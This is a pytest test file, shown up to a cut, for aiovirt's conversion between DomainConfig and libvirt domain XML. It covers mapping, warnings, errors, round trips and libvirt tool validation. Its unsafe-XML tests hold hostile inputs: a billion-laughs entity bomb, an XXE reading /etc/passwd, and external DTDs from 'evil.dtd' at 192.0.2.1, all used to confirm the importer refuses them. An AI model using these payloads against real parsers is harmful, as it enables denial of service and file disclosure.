"""DomainConfig <-> libvirt domain XML: real libvirt samples, every element accounted for, unsafe and
malformed XML refused, round trips, and libvirt's own tools (virt-xml-validate, virsh) on the output."""

from __future__ import annotations

import re
import shutil
import subprocess
from pathlib import Path
from typing import Any
from uuid import UUID
from xml.sax.saxutils import escape, quoteattr

import defusedxml.ElementTree as SafeET
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aiovirt._errors import ConfigError
from aiovirt.config import (
    Disk,
    DomainConfig,
    ImportedConfig,
    Nic,
    PortForward,
    from_libvirt_xml,
    to_libvirt_xml,
)
from aiovirt.config._xml import disk_target
from aiovirt.config._xml_tree import MAX_XML_BYTES, MAX_XML_DEPTH, MAX_XML_ELEMENTS

from ._config_strategies import domain_configs

DATA = Path(__file__).parent / "data"
MOVED = DATA / "virsh-dumpxml-moved.xml"
SAMPLES = sorted(p.name for p in DATA.glob("*.xml") if "unsupported" not in p.name)

# Enough examples to meet every machine, bus and NIC shape; few enough for the default run.
FEW = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def read(name: str) -> ImportedConfig:
    return from_libvirt_xml((DATA / name).read_text())


def domain(body: str, *, attrs: str = "type='qemu'", os: str | None = None) -> str:
    """A small domain XML with ``body`` inside <domain> (after the basics)."""
    os_part = os if os is not None else "<os><type arch='x86_64' machine='pc'>hvm</type></os>"
    return (
        f"<domain {attrs}>\n<name>vm</name>\n<memory unit='MiB'>64</memory>\n{os_part}\n"
        f"<features><acpi/></features>\n{body}\n</domain>\n"
    )


def devices(body: str) -> str:
    return domain(f"<devices>\n{body}\n</devices>")


def import_error(text: str) -> ConfigError:
    with pytest.raises(ConfigError) as info:
        from_libvirt_xml(text)
    assert "\n" not in str(info.value), "an import error is one line"
    return info.value


# -- the sample libvirt wrote --------------------------------------------------------------------


def test_moved_sample_maps_to_what_it_describes() -> None:
    result = read(MOVED.name)
    assert result.config == DomainConfig(
        name="moved",
        uuid=UUID("68e2a856-5d3c-4863-a042-e31e231a7540"),
        memory_mib=64,
        vcpus=1,
        machine="pc",
        accel="tcg",
        disks=[Disk(path="/var/lib/libvirt/images/moved.qcow2", format="qcow2", cache="writeback")],
        nics=[Nic(model="virtio", mac="52:54:00:0a:96:a9")],
        console=True,
        emulator="/usr/bin/qemu-system-x86_64",
    )
    assert result.warnings == (
        "line 1: <domain type='qemu'>: no <acpi/>: libvirt runs such a guest without ACPI; aiovirt runs it "
        "with ACPI (its shutdown presses the ACPI power button)",
        "line 8: <type>: aiovirt runs machine 'pc', the emulator's newest version of it: the same as "
        "'pc-i440fx-7.2' only when the emulator is QEMU 7.2",
        "line 46: <memballoon model='virtio'>: aiovirt adds no memory balloon: the guest always has all of "
        "its memory",
    )


# Every element of the moved sample and what becomes of it: nothing is left out of this table,
# and the test below fails if the importer's outcome for any element differs.
MOVED_OUTCOMES = {
    "/domain": "mapped",
    "/domain/name": "mapped",
    "/domain/uuid": "mapped",
    "/domain/memory": "mapped",
    "/domain/currentMemory": "accepted",  # equal to <memory>: nothing held back by a balloon
    "/domain/vcpu": "mapped",
    "/domain/os": "mapped",
    "/domain/os/type": "mapped",
    "/domain/os/boot": "accepted",  # hd: libvirt's default
    "/domain/cpu": "accepted",  # custom qemu64: exactly aiovirt's -cpu qemu64
    "/domain/cpu/model": "accepted",  # qemu64: what aiovirt runs
    "/domain/clock": "accepted",  # utc
    "/domain/on_poweroff": "accepted",
    "/domain/on_reboot": "accepted",
    "/domain/on_crash": "accepted",
    "/domain/devices": "mapped",
    "/domain/devices/emulator": "mapped",
    "/domain/devices/disk": "mapped",
    "/domain/devices/disk/driver": "mapped",
    "/domain/devices/disk/source": "mapped",
    "/domain/devices/disk/target": "mapped",
    "/domain/devices/disk/address": "accepted",
    "/domain/devices/controller[1]": "accepted",  # usb: libvirt's default controller
    "/domain/devices/controller[1]/address": "accepted",
    "/domain/devices/controller[2]": "accepted",  # pci-root
    "/domain/devices/interface": "mapped",
    "/domain/devices/interface/mac": "mapped",
    "/domain/devices/interface/model": "mapped",
    "/domain/devices/interface/address": "accepted",
    "/domain/devices/serial": "mapped",
    "/domain/devices/serial/target": "accepted",
    "/domain/devices/serial/target/model": "accepted",
    "/domain/devices/console": "accepted",  # libvirt's second name for the serial port
    "/domain/devices/console/target": "accepted",
    "/domain/devices/input[1]": "accepted",  # ps2: part of the machine
    "/domain/devices/input[2]": "accepted",
    "/domain/devices/audio": "accepted",  # none: aiovirt's -audiodev none
    "/domain/devices/memballoon": "warned",
    "/domain/devices/memballoon/address": "warned",
}


def _element_count(path: Path) -> int:
    return len(list(SafeET.parse(path).iter()))


def test_every_element_of_the_moved_sample_is_accounted_for() -> None:
    result = read(MOVED.name)
    outcomes = {report.path: report.outcome for report in result.elements}
    assert len(result.elements) == _element_count(MOVED)  # every element, once
    assert outcomes == MOVED_OUTCOMES


@pytest.mark.parametrize("name", SAMPLES)
def test_every_element_of_each_libvirt_sample_has_an_outcome(name: str) -> None:
    result = read(name)
    assert len(result.elements) == _element_count(DATA / name)
    assert {r.outcome for r in result.elements} <= {"mapped", "accepted", "warned"}
    for report in result.elements:
        if report.outcome == "warned" and not report.note.startswith("inside "):
            # Each warned element has its warning, naming its line.
            assert any(w.startswith(f"line {report.line}: ") and report.note in w for w in result.warnings)


def test_busy_sample_warns_about_each_device_aiovirt_does_not_add() -> None:
    result = read("libvirt-9.0-inactive-busy.xml")
    warned = {r.path for r in result.elements if r.outcome == "warned" and not r.note.startswith("inside")}
    assert {
        "/domain/title",
        "/domain/description",
        "/domain/metadata/{http://libosinfo.org/xmlns/libvirt/domain/1.0}libosinfo",
        "/domain/currentMemory",
        "/domain/cpu",
        "/domain/features/vmport",
        "/domain/pm",
        "/domain/devices/channel",
        "/domain/devices/graphics",
        "/domain/devices/video",
        "/domain/devices/watchdog",
        "/domain/devices/memballoon",
        "/domain/devices/rng",
        "/domain/devices/input[1]",  # the USB tablet
        "/domain/devices/controller[2]",  # virtio-serial
        "/domain/devices/disk[2]/serial",
    } <= warned
    text = "\n".join(result.warnings)
    assert "discard='unmap'" in text and "io='native'" in text  # driver attributes not applied
    assert "current='1': aiovirt starts all 2 vCPUs online" in text
    assert "'sdb' asks for IDE/SATA slot 1" in text  # libvirt put it at unit 1; aiovirt uses slot 0
    assert result.config.disks[1] == Disk(
        path="/var/lib/libvirt/images/busy-data.img", bus="ide", cache="none"
    )


def test_live_sample_of_a_running_guest() -> None:
    result = read("libvirt-9.0-live-running.xml")
    assert result.config.nics == (Nic(model="e1000", mac="52:54:00:cb:61:9d"),)
    assert result.config.console is True
    # The live-only parts: aliases, the pty path, id=, the cgroup partition and qemu64's features
    # are accepted; the DAC label is not what aiovirt does.
    assert [w.split(": ", 2)[1] for w in result.warnings] == [
        "<type>",
        "<seclabel type='dynamic' model='dac'>",
    ]


def test_unsupported_sample_names_every_element_it_cannot_honour() -> None:
    error = import_error((DATA / "libvirt-9.0-inactive-unsupported.xml").read_text())
    assert [loc for loc, _ in error.errors] == [
        "/domain/os/loader",
        "/domain/os/nvram",
        "/domain/devices/disk[1]",
        "/domain/devices/disk[2]",
        "/domain/devices/disk[3]",
        "/domain/devices/filesystem",
        "/domain/devices/interface[1]",
        "/domain/devices/interface[2]",
        "/domain/devices/hostdev",
    ]
    assert str(error).startswith("invalid domain XML (9 problems): line 9: <loader type='pflash'>: ")
    assert "line 58: <interface type='bridge'>: interface type 'bridge'" in str(error)
    assert "line 73: <hostdev type='pci'>: aiovirt cannot pass host devices through" in str(error)


# -- what cannot be honoured: one-line errors naming the element and its line ---------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            devices("<hostdev mode='subsystem' type='usb'/>"),
            "line 7: <hostdev type='usb'>: aiovirt cannot pass",
        ),
        (devices("<interface type='bridge'><source bridge='br0'/></interface>"), "interface type 'bridge'"),
        (devices("<interface type='network'><source network='default'/></interface>"), "type 'network'"),
        (devices("<interface type='direct'/>"), "interface type 'direct'"),
        (
            domain("", os="<os><type arch='aarch64' machine='virt'>hvm</type></os>"),
            "line 4: <type>: architecture 'aarch64': aiovirt runs x86_64 guests only",
        ),
        (domain("", os="<os><type>xen</type></os>"), "os type 'xen'"),
        (domain("", os="<os><type machine='isapc'>hvm</type></os>"), "machine 'isapc'"),
        (domain("", attrs="type='xen'"), "the domain type must be 'qemu' (TCG) or 'kvm', not 'xen'"),
        (
            devices("<disk type='block'><source dev='/dev/sda'/><target dev='vda'/></disk>"),
            "disk type 'block'",
        ),
        (devices("<disk type='network'><source protocol='nbd'/></disk>"), "disk type 'network'"),
        (devices("<disk type='volume'/>"), "disk type 'volume'"),
        (devices("<disk type='file' device='cdrom'><target dev='hdc'/></disk>"), "device 'cdrom'"),
        (devices("<disk type='file' device='floppy'/>"), "device 'floppy'"),
        (
            devices("<disk type='file'><source file='/a'/><target dev='sda' bus='scsi'/></disk>"),
            "line 7: <target>: bus 'scsi': aiovirt attaches virtio and IDE/SATA disks only",
        ),
        (devices("<disk type='file'><source file='/a'/><target dev='sda'/></disk>"), "bus 'scsi'"),
        (devices("<disk type='file'><driver type='vmdk'/><source file='/a'/></disk>"), "format 'vmdk'"),
        (devices("<disk type='file'><target dev='vda'/></disk>"), "no <source file=...>"),
        (devices("<disk type='file'><source file='/a'/></disk>"), "no <target dev=... bus=...>"),
        (devices("<disk type='file'><source file='/a'/><target dev='vda'/><transient/></disk>"), "transient"),
        (devices("<filesystem type='mount'/>"), "cannot share host directories"),
        (devices("<memory model='dimm'/>"), "cannot add memory devices"),
        (devices("<interface type='user'><model type='rtl8139'/></interface>"), "model 'rtl8139'"),
        (
            devices(
                "<interface type='user'><portForward proto='tcp' address='::1'><range start='1'/>"
                "</portForward></interface>"
            ),
            "address '::1': aiovirt forwards IPv4 host addresses only",
        ),
        (
            devices("<interface type='user'><portForward proto='tcp' dev='eth0'/></interface>"),
            "cannot bind a forward to a host interface",
        ),
        (
            devices(
                "<interface type='user'><portForward proto='tcp'><range start='1' end='2000'/>"
                "</portForward></interface>"
            ),
            "2000 ports: aiovirt forwards at most 1024",
        ),
        (
            domain(
                "<qemu:commandline xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>"
                "<qemu:env name='A' value='b'/></qemu:commandline>"
            ),
            "<qemu:env>: aiovirt sets no environment variables for QEMU",
        ),
        (domain("<launchSecurity type='sev'/>"), "confidential guests"),
        (domain("", os="<os><type>hvm</type><loader>/OVMF.fd</loader></os>"), "UEFI or other firmware"),
        ("<domain type='qemu'><memory>64</memory></domain>", "no <name>: a domain needs one"),
        ("<domain type='qemu'><name>vm</name></domain>", "no <memory>"),
        (domain("<uuid>nope</uuid>"), "line 6: <uuid>: 'nope' is not a UUID"),
        (domain("<currentMemory unit='parsecs'>1</currentMemory>"), "'1' 'parsecs' is not a memory size"),
        (domain("<vcpu>two</vcpu>"), "'two' is not a number of vCPUs"),
        (domain("<vcpu>" + "9" * 5000 + "</vcpu>"), "is not a number of vCPUs"),
        (domain("").replace(">64<", ">" + "9" * 5000 + "<"), "is not a memory size"),
        ("<network><name>default</name></network>", "not a libvirt domain XML"),
    ],
)
def test_what_aiovirt_cannot_honour_is_an_error(text: str, expected: str) -> None:
    assert expected in str(import_error(text))


def test_invalid_values_name_the_element_the_line_and_the_field() -> None:
    text = devices("<disk type='file'><source file='/a'/><target dev='hda' bus='ide'/><readonly/></disk>")
    error = import_error(text)
    assert str(error) == (
        "invalid domain XML: line 7: <disk type='file'> (disks.0.readonly): "
        "QEMU cannot attach a read-only image to an IDE hard disk"
    )
    error = import_error(domain("").replace("<name>vm</name>", "<name>bad name</name>"))
    assert "line 2: <name> (name): may only contain" in str(error)
    assert "line 3: <memory> (memory_mib)" in str(import_error(domain("").replace(">64<", ">0<")))


# -- unsafe and malformed XML ----------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE domain [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<domain type='qemu'><name>&lol3;</name><memory>65536</memory></domain>
"""


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            BILLION_LAUGHS,
            "invalid domain XML: line 3: entity 'lol' declared: entity declarations are refused "
            "(no entity expansion)",
        ),
        (
            '<!DOCTYPE domain [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            "<domain type='qemu'><name>&xxe;</name></domain>",
            "invalid domain XML: line 1: external entity 'xxe' ('file:///etc/passwd') refused: "
            "nothing is fetched",
        ),
        (
            '<!DOCTYPE domain [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]><domain/>',
            "invalid domain XML: line 1: external entity 'p' ('http://192.0.2.1/evil.dtd') refused: "
            "nothing is fetched",
        ),
        (
            '<!DOCTYPE domain SYSTEM "http://192.0.2.1/domain.dtd">\n<domain/>',
            "invalid domain XML: line 1: external reference 'http://192.0.2.1/domain.dtd' refused: "
            "nothing is fetched",
        ),
        (
            "<!DOCTYPE domain [<!ATTLIST disk type CDATA 'block'>]>\n<domain/>",
            "invalid domain XML: line 1: a DTD (<!DOCTYPE ...>) is not accepted in a domain XML",
        ),
        (
            "<domain type='qemu'>\n  <name>vm</nmae>\n</domain>",
            "invalid domain XML: malformed XML at line 2, column 13: mismatched tag",
        ),
        (
            "<domain><name>&ghost;</name></domain>",
            "invalid domain XML: malformed XML at line 1, column 15: undefined entity",
        ),
        ("<qemu:commandline/>", "invalid domain XML: malformed XML at line 1, column 1: unbound prefix"),
        ("", "invalid domain XML: malformed XML at line 1, column 1: no element found"),
        (
            "<domain/><domain/>",
            "invalid domain XML: malformed XML at line 1, column 10: junk after document element",
        ),
        (
            b"<domain>\xff</domain>",
            "invalid domain XML: malformed XML at line 1, column 9: not well-formed (invalid token)",
        ),
    ],
)
def test_unsafe_or_malformed_xml_is_one_line_error(text: str | bytes, message: str) -> None:
    error = import_error(text)  # type: ignore[arg-type]
    assert str(error) == message


def test_entity_bomb_is_refused_before_anything_expands() -> None:
    # 10^9 "lol"s if it expanded: the refusal comes at the first declaration, in no time at all.
    bomb = BILLION_LAUGHS.replace("]>", '<!ENTITY lol9 "' + "&lol3;" * 10 + '">]>')
    assert "entity 'lol' declared" in str(import_error(bomb))


def test_input_over_the_limit_is_refused_unread() -> None:
    text = "<domain>" + " " * MAX_XML_BYTES + "</domain>"
    assert f"more than the {MAX_XML_BYTES} accepted" in str(import_error(text))


def test_too_many_or_too_deep_elements_are_refused_while_parsing() -> None:
    many = "<domain><devices>" + "<x/>" * MAX_XML_ELEMENTS + "</devices></domain>"
    assert str(import_error(many)) == (
        f"invalid domain XML: line 1: more than {MAX_XML_ELEMENTS} elements: not a domain XML"
    )
    deep = "<domain>" + "<a>" * MAX_XML_DEPTH + "</a>" * MAX_XML_DEPTH + "</domain>"
    assert str(import_error(deep)) == (
        f"invalid domain XML: line 1: elements nested more than {MAX_XML_DEPTH} deep: not a domain XML"
    )


def test_bytes_in_a_declared_encoding() -> None:
    text = domain("<title>caf\xe9</title>").replace(
        "<domain", "<?xml version='1.0' encoding='latin-1'?><domain", 1
    )
    result = from_libvirt_xml(text.encode("latin-1"))
    assert result.config.name == "vm"
    assert any("<title>: aiovirt keeps no title" in w for w in result.warnings)


# -- mapping details -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("memory", "mib", "rounded"),
    [
        ("<memory>65536</memory>", 64, False),  # KiB by default
        ("<memory unit='KiB'>65536</memory>", 64, False),
        ("<memory unit='k'>65536</memory>", 64, False),
        ("<memory unit='M'>64</memory>", 64, False),
        ("<memory unit='MiB'>64</memory>", 64, False),
        ("<memory unit='G'>2</memory>", 2048, False),
        ("<memory unit='GiB'>2</memory>", 2048, False),
        ("<memory unit='b'>67108864</memory>", 64, False),
        ("<memory unit='bytes'>67108864</memory>", 64, False),
        ("<memory unit='MB'>64</memory>", 62, True),  # 64,000,000 bytes: 61.04 MiB, rounded up
        ("<memory unit='KB'>1024</memory>", 1, True),
        ("<memory unit='TiB'>4</memory>", 1 << 22, False),
        ("<memory> 1024 </memory>", 1, False),
    ],
)
def test_memory_units(memory: str, mib: int, rounded: bool) -> None:
    result = from_libvirt_xml(domain("").replace("<memory unit='MiB'>64</memory>", memory))
    assert result.config.memory_mib == mib
    assert any("not a whole number of MiB" in w for w in result.warnings) == rounded


@pytest.mark.parametrize(
    ("machine", "expected", "warned"),
    [
        ("pc", "pc", False),
        ("q35", "q35", False),
        ("microvm", "microvm", False),
        ("pc-i440fx-7.2", "pc", True),
        ("pc-i440fx-5.2", "pc", True),
        ("pc-1.0", "pc", True),
        ("pc-q35-7.2", "q35", True),
        ("pc-q35-rhel9.2.0", "q35", True),
    ],
)
def test_machine_names(machine: str, expected: str, warned: bool) -> None:
    os_part = f"<os><type arch='x86_64' machine='{machine}'>hvm</type></os>"
    result = from_libvirt_xml(domain("", os=os_part))
    assert result.config.machine == expected
    assert any("the emulator's newest version" in w for w in result.warnings) == warned


def test_machine_none_needs_no_acpi_and_ignores_cpu() -> None:
    os_part = "<os><type machine='none'>hvm</type></os>"
    text = domain("<cpu mode='host-passthrough'/>", os=os_part).replace("<features><acpi/></features>", "")
    result = from_libvirt_xml(text)
    assert (result.config.machine, result.warnings) == ("none", ())


def test_accel_from_the_domain_type_and_aiovirt_metadata() -> None:
    assert from_libvirt_xml(domain("")).config.accel == "tcg"
    assert from_libvirt_xml(domain("", attrs="type='kvm'")).config.accel == "kvm"
    meta = "<metadata><a:domain xmlns:a='urn:aiovirt:domain:1'><a:accel>auto</a:accel></a:domain></metadata>"
    assert from_libvirt_xml(domain(meta, attrs="type='kvm'")).config.accel == "auto"
    edited = from_libvirt_xml(domain(meta))  # someone changed the type to qemu: the type decides
    assert edited.config.accel == "tcg"
    assert any("accel 'auto' ignored: the domain type 'qemu' decides" in w for w in edited.warnings)


def test_disks_on_each_bus() -> None:
    q35 = "<os><type machine='q35'>hvm</type></os>"
    text = domain(
        "<devices>"
        "<disk type='file'><source file='/a'/><target dev='sda' bus='sata'/></disk>"
        "<disk type='file' device='disk'><driver name='qemu' type='qcow2' cache='unsafe'/>"
        "<source file='/b'/><target dev='vdb'/><readonly/></disk>"
        "<disk type='file'><driver cache='default'/><source file='/c'/><target dev='hdb' bus='ide'/></disk>"
        "</devices>",
        os=q35,
    )
    result = from_libvirt_xml(text)
    assert result.config.disks == (
        Disk(path="/a", bus="ide"),
        Disk(path="/b", format="qcow2", cache="unsafe", readonly=True),
        Disk(path="/c", bus="ide"),  # libvirt's "default" cache is QEMU's: writeback
    )
    assert result.warnings == ()  # sda and hdb are the first two AHCI ports, where aiovirt puts them


def test_sata_on_pc_is_attached_to_ide_with_a_warning() -> None:
    text = devices("<disk type='file'><source file='/a'/><target dev='sda' bus='sata'/></disk>")
    result = from_libvirt_xml(text)
    assert result.config.disks == (Disk(path="/a", bus="ide"),)
    assert any("not to an AHCI (SATA) one" in w for w in result.warnings)


def test_ide_slot_from_the_drive_address() -> None:
    text = devices(
        "<disk type='file'><source file='/a'/><target dev='hda' bus='ide'/>"
        "<address type='drive' controller='0' bus='1' target='0' unit='0'/></disk>"
    )
    result = from_libvirt_xml(text)
    assert any("'hda' asks for IDE/SATA slot 2" in w for w in result.warnings)


@pytest.mark.parametrize(
    ("forward", "expected"),
    [
        (
            "<portForward proto='tcp' address='127.0.0.1'><range start='2222' to='22'/></portForward>",
            [("tcp", "127.0.0.1", 2222, 22)],
        ),
        ("<portForward proto='udp'><range start='53'/></portForward>", [("udp", "0.0.0.0", 53, 53)]),
        (
            "<portForward proto='tcp'><range start='5000' end='5003' to='6000'/>"
            "<range start='5001' end='5002' exclude='yes'/></portForward>",
            [("tcp", "0.0.0.0", 5000, 6000), ("tcp", "0.0.0.0", 5003, 6003)],
        ),
    ],
)
def test_port_forwards(forward: str, expected: list[tuple[str, str, int, int]]) -> None:
    text = devices(
        f"<interface type='user'><backend type='passt'/>{forward}<model type='virtio'/></interface>"
    )
    result = from_libvirt_xml(text)
    (nic,) = result.config.nics
    assert [(f.protocol, str(f.host_addr), f.host_port, f.guest_port) for f in nic.forwards] == expected
    assert any("not passt" in w for w in result.warnings)


def test_interface_without_model_gets_virtio_with_a_warning() -> None:
    result = from_libvirt_xml(devices("<interface type='user'/>"))
    assert result.config.nics == (Nic(),)
    assert any("libvirt's default is rtl8139; aiovirt adds a virtio card" in w for w in result.warnings)


@pytest.mark.parametrize(
    ("body", "console", "warning"),
    [
        ("", False, None),
        ("<serial type='pty'><target port='0'/></serial>", True, None),
        ("<console type='pty'><target type='serial' port='0'/></console>", True, None),
        ("<serial type='file'><source path='/var/log/x'/></serial>", True, "type 'file': aiovirt writes"),
        ("<serial type='pty'/><serial type='pty'/>", True, "aiovirt gives the guest one serial port"),
        ("<console type='pty'><target type='virtio'/></console>", False, "aiovirt has no virtio console"),
        ("<serial type='pty'><target type='usb-serial'/></serial>", True, "an ISA serial port at COM1"),
        ("<serial type='pty'><log file='/x'/></serial>", True, "console to Domain.console_path only"),
    ],
)
def test_serial_and_console(body: str, console: bool, warning: str | None) -> None:
    result = from_libvirt_xml(devices(body))
    assert result.config.console is console
    if warning is None:
        assert result.warnings == ()
    else:
        assert [w for w in result.warnings if warning in w], result.warnings


@pytest.mark.parametrize(
    ("body", "warning"),
    [
        ("<on_reboot>destroy</on_reboot>", "aiovirt lets QEMU reset the guest when it reboots"),
        ("<on_poweroff>restart</on_poweroff>", "aiovirt ends the domain when the guest powers off"),
        ("<on_crash>coredump-restart</on_crash>", "aiovirt has no crash action"),
        ("<cpu><model>Haswell</model></cpu>", "CPU model 'Haswell': aiovirt runs qemu64"),
        ("<cpu><model>qemu64</model><feature policy='disable' name='svm'/></cpu>", "CPU feature 'svm'"),
        ("<cpu><topology sockets='1' cores='2' threads='1'/></cpu>", "QEMU's default topology"),
        ("<clock offset='localtime'/>", "offset 'localtime'"),
        ("<currentMemory unit='MiB'>32</currentMemory>", "aiovirt has no balloon"),
        ("<vcpu cpuset='0-1'>2</vcpu>", "cpuset: aiovirt pins no vCPUs"),
        ("<memoryBacking><hugepages/></memoryBacking>", "no hugepages"),
        ("<seclabel type='dynamic' model='selinux'/>", "aiovirt applies no security label"),
        ("<devices><graphics type='spice'/></devices>", "-display none"),
        ("<devices><sound model='ich9'/></devices>", "aiovirt adds no sound card"),
        ("<devices><tpm model='tpm-crb'/></devices>", "aiovirt adds no TPM"),
        ("<devices><controller type='scsi'/></devices>", "aiovirt adds no scsi controller"),
        ("<devices><input type='tablet' bus='usb'/></devices>", "tablet (usb)"),
        ("<devices><audio id='1' type='pulseaudio'/></devices>", "-audiodev none"),
        ("<devices><interface type='user'><link state='down'/></interface></devices>", "link up"),
        ("<devices><interface type='user'><ip address='10.1.0.0'/></interface></devices>", "10.0.2.0/24"),
        (
            "<devices><disk type='file'><source file='/a' startupPolicy='optional'/><target dev='vda'/>"
            "</disk></devices>",
            "startupPolicy",
        ),
        ("<frobnicate/>", "<frobnicate>: not understood by aiovirt: ignored"),
        ("<devices><gizmo/></devices>", "<gizmo>: not understood by aiovirt: ignored"),
        ("<x:thing xmlns:x='urn:x'/>", "namespace 'urn:x' outside <metadata>"),
        ("<vcpu surprise='yes'>1</vcpu>", "attribute surprise='yes' is not understood by aiovirt: ignored"),
        ("<clock offset='utc' adjustment='reset'/>", "attribute adjustment='reset' is not understood"),
        ("<name>other</name>", "line 6: <name>: a second <name>: libvirt reads the first one; ignored"),
        ("<devices><emulator>/a</emulator><emulator>/b</emulator></devices>", "a second <emulator>"),
        ("<qemu:capabilities xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'/>", "capability"),
    ],
)
def test_what_aiovirt_runs_differently_is_warned(body: str, warning: str) -> None:
    result = from_libvirt_xml(domain(body))
    assert [w for w in result.warnings if warning in w], result.warnings
    assert len(result.elements) == len(list(SafeET.fromstring(domain(body)).iter()))


def test_no_acpi_is_warned() -> None:
    result = from_libvirt_xml(domain("").replace("<features><acpi/></features>", ""))
    assert any("no <acpi/>" in w for w in result.warnings)


def test_qemu_commandline_becomes_extra_args() -> None:
    text = domain(
        "<qemu:commandline xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>"
        "<qemu:arg value='-device'/><qemu:arg value='pvpanic'/><qemu:arg value='a&#10;b'/></qemu:commandline>"
    )
    assert from_libvirt_xml(text).config.extra_args == ("-device", "pvpanic", "a\nb")


def test_disk_target_names() -> None:
    assert [disk_target("vd", i) for i in (0, 1, 25, 26, 27, 701, 702)] == [
        "vda", "vdb", "vdz", "vdaa", "vdab", "vdzz", "vdaaa",
    ]  # fmt: skip


# -- export ----------------------------------------------------------------------------------------


def test_export_of_a_full_config() -> None:
    cfg = DomainConfig(
        name="web-1",
        uuid=UUID("6f1c2b0e-8d4a-4c57-9d8e-0a1b2c3d4e5f"),
        memory_mib=256,
        vcpus=2,
        machine="q35",
        accel="tcg",
        kernel="/boot/vmlinuz",
        cmdline="console=ttyS0 a<b",
        disks=[Disk(path="/img/a.qcow2", format="qcow2"), Disk(path="/img/b.raw", bus="ide", cache="none")],
        nics=[Nic(mac="52:54:00:00:00:01", forwards=[PortForward(host_port=2222, guest_port=22)])],
        emulator="/usr/bin/qemu-system-x86_64",
        extra_args=["-device", "pvpanic"],
    )
    xml = to_libvirt_xml(cfg)
    for fragment in [
        "<domain type='qemu' xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>",
        "<memory unit='MiB'>256</memory>",
        "<type arch='x86_64' machine='q35'>hvm</type>",
        "<cmdline>console=ttyS0 a&lt;b</cmdline>",
        "<target dev='vda' bus='virtio'/>",
        "<target dev='sda' bus='sata'/>",  # aiovirt's IDE on q35 is the AHCI: libvirt's SATA
        "<driver name='qemu' type='raw' cache='none'/>",
        "<backend type='passt'/>",
        "<portForward proto='tcp' address='127.0.0.1'>",
        "<range start='2222' to='22'/>",
        "<controller type='usb' index='0' model='none'/>",
        "<memballoon model='none'/>",
        "<qemu:arg value='pvpanic'/>",
    ]:
        assert fragment in xml
    assert "<metadata>" not in xml  # nothing aiovirt-specific to keep


def test_export_refuses_what_xml_cannot_carry() -> None:
    cfg = DomainConfig(name="vm", memory_mib=64, disks=[Disk(path="/a\x01b")], extra_args=["x\x1by"])
    with pytest.raises(ConfigError) as info:
        to_libvirt_xml(cfg)
    assert [loc for loc, _ in info.value.errors] == ["disks.0.path", "extra_args.0"]
    assert "U+0001, which XML 1.0 cannot carry" in str(info.value)


@FEW
@given(domain_configs())
def test_round_trip(cfg: DomainConfig) -> None:
    result = from_libvirt_xml(to_libvirt_xml(cfg))
    assert result.config == cfg
    # The only difference the importer reports is the one the export has to make: passt.
    assert len(result.warnings) == sum(1 for nic in cfg.nics if nic.forwards)
    assert all("not passt" in w for w in result.warnings)


@pytest.mark.parametrize("arg", ["a\nb", "tab\there", "cr\rlf\n", "  spaces  ", 'quote\'s "and" <&>', ""])
def test_round_trip_of_whitespace_and_markup_in_arguments(arg: str) -> None:
    cfg = DomainConfig(name="vm", memory_mib=8, extra_args=[arg], cmdline=None)
    assert from_libvirt_xml(to_libvirt_xml(cfg)).config == cfg


# -- libvirt's own tools on the export -------------------------------------------------------------


def _tool(name: str) -> str:
    path = shutil.which(name)
    if path is None:
        pytest.fail(f"{name} is missing: scripts/setup.sh installs libvirt-clients and libxml2-utils")
    return path


def _validate(xml: str, tmp: Path) -> subprocess.CompletedProcess[str]:
    path = tmp / "domain.xml"
    path.write_text(xml)
    return subprocess.run([_tool("virt-xml-validate"), str(path), "domain"], capture_output=True, text=True)


def test_virt_xml_validate_accepts_the_samples_and_refuses_broken_xml(tmp_path: Path) -> None:
    for name in SAMPLES:
        assert _validate((DATA / name).read_text(), tmp_path).returncode == 0, name
    broken = to_libvirt_xml(DomainConfig(name="vm", memory_mib=8)).replace(
        "<memory unit='MiB'>", "<memory unit='lots'>"
    )
    assert _validate(broken, tmp_path).returncode != 0  # the validator does reject


@FEW
@given(cfg=domain_configs())
def test_export_passes_virt_xml_validate(tmp_path_factory: pytest.TempPathFactory, cfg: DomainConfig) -> None:
    result = _validate(to_libvirt_xml(cfg), tmp_path_factory.mktemp("xml"))
    assert result.returncode == 0, result.stderr


def _libvirt_canonical(xml: str, name: str, tmp: Path) -> str:
    """``xml`` defined in libvirt's test:/// driver (libvirt's real parser, no daemon) and dumped."""
    path = tmp / "domain.xml"
    path.write_text(xml)
    # Without the test host's own domain "test" (id 1), a name like "1" cannot be taken for an id.
    command = f"destroy test; undefine test; define {path}; dumpxml --inactive {name}"
    result = subprocess.run(
        [_tool("virsh"), "-q", "-c", "test:///default", command], capture_output=True, text=True
    )
    assert result.returncode == 0 and not result.stderr, result.stderr
    return result.stdout


def _grouped_by_bus(disks: tuple[Disk, ...]) -> list[Disk]:
    """libvirt keeps disks grouped by bus, in the order each bus first appears."""
    order = list(dict.fromkeys(d.bus for d in disks))
    return sorted(disks, key=lambda d: order.index(d.bus))


@FEW
@given(cfg=domain_configs(forwards=False))
def test_libvirt_reads_the_export_back_to_the_same_config(
    tmp_path_factory: pytest.TempPathFactory, cfg: DomainConfig
) -> None:
    # Port forwards need libvirt's passt backend, which libvirt 9.0's parser refuses (fixed later).
    canonical = _libvirt_canonical(to_libvirt_xml(cfg), cfg.name, tmp_path_factory.mktemp("xml"))
    result = from_libvirt_xml(canonical)
    back = result.config
    assert result.warnings == ()
    assert back.uuid is not None and back.uuid == (cfg.uuid or back.uuid)
    # libvirt gives every card a MAC (in QEMU's 52:54:00 range), keeps an empty <cmdline> as none,
